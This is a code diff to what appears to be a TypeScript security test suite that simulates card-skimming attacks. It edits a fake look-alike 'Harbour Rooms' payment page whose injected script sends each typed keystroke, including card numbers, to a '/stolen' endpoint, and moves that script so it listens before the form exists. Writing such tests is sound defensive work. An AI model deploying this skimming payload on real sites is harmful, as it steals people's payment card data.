@@ -4,11 +4,11 @@ import { type Asked, attack, expect, type Field } from './attack.ts'
 import { script, shopPage } from './pages.ts'
 import type { Edit } from './weaken.ts'
 
-/** Looks like ours, on the attacker's site; sends each key there, and says by which way it came. */
-const lookAlike = (way: string): string => `<body><form id="form"><h1>Harbour Rooms</h1>
-<label>Card number <input data-own autocomplete="cc-number"></label></form>${script((name) => {
+/** Looks like ours, on the attacker's site; sends each key there, and says by which way it came. It listens before there is a field. */
+const lookAlike = (way: string): string => `<body>${script((name) => {
   addEventListener('input', ({ target }) => void fetch(`/stolen?${name}=${(target as HTMLInputElement).value}`))
-}, way)}</body>`
+}, way)}<form id="form"><h1>Harbour Rooms</h1>
+<label>Card number <input data-own autocomplete="cc-number"></label></form></body>`
 
 const stolen = ({ site }: Field): string => site.got.map(({ path }) => path).join('\n')
 
